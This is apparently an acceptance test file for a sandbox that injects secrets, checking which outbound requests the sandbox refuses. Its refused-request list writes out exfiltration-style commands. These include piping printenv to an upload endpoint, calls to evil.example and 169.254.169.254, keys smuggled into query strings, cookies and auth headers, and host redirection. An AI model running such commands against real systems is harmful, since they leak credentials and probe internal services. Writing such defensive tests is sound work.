import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { failingHosts, goodHost, unworthyHosts } from '../services.ts'
import type { Door } from './door.ts'

const readEverything = readFileSync(join(import.meta.dirname, '../../acceptance/inside/read-everything.py'), 'utf8')

/** curl as everything inside calls it: head and body are shown, no certificate is doubted, nothing waits for ever. */
const curl = 'curl -sS -i -k --max-time 20'
const bearer = '-H "Authorization: Bearer $KEY"'

/** A request that is let through, as a line of shell. */
export const goodRequest = `${curl} ${bearer} https://${goodHost}/json`

/** Everything inside a sandbox, and a request that is let through. */
export const inside: Door = {
  name: 'everything that a sandbox holds, and a request that is let through',
  async walk(stage) {
    const { stdout, stderr } = await stage.inside(`printenv; ps -ef; ${goodRequest}`)
    assert.match(stdout, /HTTP\/[\d.]+ 200/, stderr)
    const command = ['--secret', 'KEY=key', '--', '/usr/bin/python3', '-c', readEverything]
    const loot = await stage.command(['run', '--profile', 'locked', ...command])
    assert.ok(loot.stdoutBytes.length > 100_000, loot.stderr)
  },
}

/** Sends a text on a TLS connection that it then ends, and shows what comes back. */
function sendBytes(text: string): string {
  const program = `
import os, socket, ssl
context = ssl._create_unverified_context()
with context.wrap_socket(socket.create_connection(("${goodHost}", 443), 10), server_hostname="${goodHost}") as tls:
    tls.sendall("${text}".format(host="${goodHost}", key=os.environ["KEY"]).encode())
    tls.settimeout(2)
    try:
        print(tls.recv(65536).decode())
    except OSError as error:
        print(error)`
  return `/usr/bin/python3 -c '${program}'`
}

const refusedRequests: readonly string[] = [
  `${curl} "https://${goodHost}/json?key=$KEY"`,
  `${curl} "https://${goodHost}/$KEY"`,
  `${curl} ${bearer} -A "$KEY" https://${goodHost}/json`,
  `${curl} ${bearer} --data "$KEY" https://${goodHost}/upload`,
  `printenv | ${curl} ${bearer} --data-binary @- https://${goodHost}/upload`,
  `${curl} ${bearer} -H "Cookie: a=$KEY" https://${goodHost}/json`,
  `${curl} -H "Authorization: Bearer another-key-0123456789" https://${goodHost}/json`,
  `${curl} -u "me:$KEY" https://${goodHost}/json`,
  `${curl} ${bearer} -X TRACE https://${goodHost}/json`,
  `${curl} ${bearer} -X OPTIONS https://${goodHost}/json`,
  `${curl} ${bearer} -H "Max-Forwards: 1" https://${goodHost}/json`,
  `${curl} --http1.1 ${bearer} -H "Connection: Upgrade" -H "Upgrade: websocket" https://${goodHost}/json`,
  `${curl} ${bearer} -H "Host: other.service.test" https://${goodHost}/json`,
  `${curl} ${bearer} --path-as-is https://${goodHost}/a/../json`,
  `${curl} ${bearer} --connect-to ${goodHost}:443:${unworthyHosts[0]}:443 https://${goodHost}/json`,
  `${curl} ${bearer} --connect-to ${goodHost}:443:203.0.113.7:443 https://${goodHost}/json`,
  `${curl} ${bearer} http://${goodHost}/json`,
  `${curl} ${bearer} https://evil.example/`,
  `${curl} ${bearer} https://203.0.113.7/`,
  `${curl} ${bearer} http://169.254.169.254/`,
  sendBytes('GET / HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization : Bearer {key}\\r\\n\\r\\n'),
  sendBytes('GET / HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {key}'),
]

/** Requests of every kind that is refused. */
export const refusals: Door = {
  name: 'requests that are refused, of every kind',
  async walk(stage) {
    const before = stage.services.good.requests.length
    const { stdout, stderr } = await stage.inside(refusedRequests.join('; '))
    assert.equal(stage.services.good.requests.length, before, stdout + stderr)
    const codes = new Set([...stdout.matchAll(/"code": *"(\w+)"/g)].map(([, code]) => code))
    for (const code of [
      'placeholder_undeclared_place',
      'foreign_credential',
      'destination_mismatch',
      'path_ambiguous',
    ]) {
      assert.ok(codes.has(code), `${code} is not among ${[...codes]}`)
    }
  },
}

/** Services that cannot be trusted or reached, or that fail. */
export const upstreamFailures: Door = {
  name: 'services that cannot be trusted or reached, or that fail half-way',
  async walk(stage) {
    const hosts = [...unworthyHosts, ...failingHosts.filter((host) => !host.startsWith('silent'))]
    const { stdout } = await stage.inside(hosts.map((host) => `${curl} ${bearer} https://${host}/json`).join('; '))
    for (const code of ['upstream_tls_untrusted', 'upstream_unreachable', 'upstream_malformed']) {
      assert.ok(stdout.includes(code), `${code} is not in ${stdout}`)
    }
  },
}

/** Keys in the environment of whoever runs a command: one that is known, and others. */
export const ambientKeys: Door = {
  name: 'keys in the environment of whoever runs a command',
  async walk(stage) {
    const { value } = stage.values.ambient
    const env = { STRIPE_SECRET_KEY: value, MY_TOKEN: value, DATABASE_URL: `postgres://me:${value}@db/x` }
    const script = `printenv; ${curl} "https://api.stripe.com/v1/charges?key=$STRIPE_SECRET_KEY"; ${curl} -H "Authorization: Bearer $STRIPE_SECRET_KEY" https://${goodHost}/json`
    for (const form of [[], ['--json']]) {
      const args = ['run', ...form, '--profile', 'locked', '--secret', 'KEY=key', '--', 'sh', '-c', script]
      const { stdout, stderr } = await stage.command(args, { env })
      for (const code of ['placeholder_undeclared_place', 'placeholder_wrong_destination']) {
        assert.ok(stdout.includes(code), stdout + stderr)
      }
    }
    const withheld = await stage.command(['run', '--no-detect', '--', 'printenv'], { env })
    assert.equal(withheld.code, 0, withheld.stderr)
  },
}
